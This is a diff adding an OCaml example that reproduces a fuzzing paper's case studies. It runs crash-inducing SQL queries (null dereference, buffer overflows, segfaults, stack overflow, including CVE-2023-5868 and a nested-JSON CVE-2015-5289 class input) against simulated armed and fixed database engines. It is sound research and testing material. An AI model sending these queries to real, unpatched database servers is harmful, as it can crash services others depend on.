@@ -1,0 +1,58 @@
+(** Reproduces the paper's case studies: the opening ClickHouse
+    [toDecimalString] bug (Listing 1 / issue #52407) plus the six §7.4
+    cases — each PoC crashes the armed simulated server and errors cleanly
+    on the "fixed" (disarmed) one.
+
+    Run with: [dune exec examples/bug_hunt_clickhouse.exe] *)
+
+open Sqlfun_dialects
+open Sqlfun_engine
+open Sqlfun_fault
+
+let run_poc ~dialect ~label sql =
+  let prof = Dialect.find_exn dialect in
+  let armed = Dialect.make_engine ~armed:true prof in
+  Printf.printf "%s\n  %s\n" label sql;
+  (match Engine.exec_sql armed sql with
+   | Ok _ -> print_endline "  armed server: returned normally (?)"
+   | Error e -> Printf.printf "  armed server: %s (?)\n" (Engine.error_to_string e)
+   | exception Fault.Crash spec ->
+     Printf.printf "  armed server: CRASH — %s (%s), %s\n" spec.Fault.site
+       (Bug_kind.describe spec.Fault.kind)
+       (Fault.status_to_string spec.Fault.status)
+   | exception Stack_overflow ->
+     print_endline "  armed server: CRASH — stack overflow");
+  let fixed = Dialect.make_engine prof in
+  (match Engine.exec_sql fixed sql with
+   | Ok outcome ->
+     Printf.printf "  fixed server: %s\n"
+       (match outcome with
+        | Engine.Rows _ -> "query returned normally"
+        | Engine.Affected n -> Printf.sprintf "%d row(s)" n)
+   | Error e -> Printf.printf "  fixed server: %s\n" (Engine.error_to_string e)
+   | exception _ -> print_endline "  fixed server: UNEXPECTED CRASH");
+  print_newline ()
+
+let () =
+  print_endline "=== Listing 1: the bug that opens the paper ===";
+  run_poc ~dialect:"clickhouse" ~label:"toDecimalString NPD (ClickHouse #52407)"
+    "SELECT TODECIMALSTRING(CAST('110' AS DECIMAL256(45)), *)";
+
+  print_endline "=== Section 7.4 case studies ===";
+  run_poc ~dialect:"mysql" ~label:"Case 1: global buffer overflow in MySQL AVG"
+    ("SELECT AVG(1." ^ String.make 83 '9' ^ ")");
+  run_poc ~dialect:"virtuoso" ~label:"Case 2: segmentation violation in Virtuoso CONTAINS"
+    "SELECT CONTAINS('x', 'x', *)";
+  run_poc ~dialect:"postgresql"
+    ~label:"Case 3: heap buffer overflow in PostgreSQL (CVE-2023-5868)"
+    "SELECT JSONB_OBJECT_AGG(DISTINCT 'aaa', 'abc')";
+  run_poc ~dialect:"duckdb" ~label:"Case 4: stack overflow in DuckDB (UNION-typed lists)"
+    "SELECT ARRAY_CONCAT((SELECT ARRAY[2] UNION SELECT ARRAY[3]), ARRAY[1])";
+  run_poc ~dialect:"mariadb" ~label:"Case 5: global buffer overflow in MariaDB JSON_LENGTH"
+    "SELECT JSON_LENGTH(REPEAT('[1,', 100), '$[2][1]')";
+  run_poc ~dialect:"mariadb" ~label:"Case 6: segmentation violation in MariaDB spatial chain"
+    "SELECT ST_ASTEXT(INET6_ATON('255.255.255.255'))";
+
+  print_endline "=== the CVE-2015-5289 class (no JSON recursion budget) ===";
+  run_poc ~dialect:"mariadb" ~label:"deeply nested JSON cast"
+    ("SELECT CAST('" ^ String.make 2000 '[' ^ "' AS JSON)")
